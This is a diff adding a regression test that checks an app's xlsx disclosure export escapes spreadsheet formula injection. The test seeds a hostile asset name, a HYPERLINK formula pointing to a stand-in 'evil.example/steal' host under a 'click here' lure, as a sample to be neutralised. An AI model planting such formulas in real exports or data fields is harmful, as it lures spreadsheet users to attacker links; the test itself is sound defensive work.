@@ -5,14 +5,18 @@ Each refusal leaves the database as it was."""
 from __future__ import annotations
 
 import asyncio
+import io
 import uuid
 from typing import Any
 
 import httpx
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession
 
+from app.assets import workbook
 from app.auth.models import Role
+from app.cells import FORMULA_STARTS
 from tests.assets.conftest import Books
 from tests.factories import auth, make_key, make_product
 from tests.ip.test_router import Registry
@@ -337,3 +341,39 @@ async def test_staff_see_every_merchants_books(
         headers=staff,
     )
     assert len(rest.json()["items"]) == 1 and rest.json()["next_cursor"] is None
+
+
+async def test_workbook_text_is_never_a_formula(books: Books) -> None:
+    """Issue 27: an asset named `=HYPERLINK(…)` arrived in the disclosure workbook as a live
+    formula. Every text cell is now text, neutralised as the CSV export's (app/cells.py)."""
+    name = '=HYPERLINK("http://evil.example/steal","点此查看")'
+    typed = {name, "+1", "-2+3", "@SUM(A1)"}  # a name takes no TAB or CR, a description does
+    retry_safe = {**books.key, "Idempotency-Key": str(uuid.uuid4())}
+    for n, text in enumerate(sorted(typed)):
+        asset = await books.asset(name=text, description="\t\r"[n % 2] + text)
+        await books.ok(await books.cost(asset["id"], retry_safe | {"Idempotency-Key": str(n)}))
+        await books.ok(
+            await books.move(
+                asset["id"], "capitalise", {**books.key, "Idempotency-Key": f"c{n}"},
+                date="2025-01-31", useful_life_months=120,
+            )
+        )  # fmt: skip
+    xlsx = await books.disclosure("2025-01", "2025-12", Accept=workbook.MEDIA_TYPE)
+    assert xlsx.status_code == 200, xlsx.text
+    assert xlsx.headers["content-type"] == workbook.MEDIA_TYPE
+    book = load_workbook(io.BytesIO(xlsx.content))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
+                    texts.append(cell.value)
+    lives = book["使用寿命及摊销方法"]
+    assert {row[0].value for row in lives.iter_rows(min_row=2)} == {"'" + t for t in typed}
+    significant = book["重要单项数据资源无形资产"]
+    described = {row[1].value for row in significant.iter_rows(min_row=2)}
+    # (XML reads a CR in text as a line feed: the `'` is what matters.)
+    assert described == {"'" + "\t\n"[n % 2] + t for n, t in enumerate(sorted(typed))}
+    assert "'" + name in texts
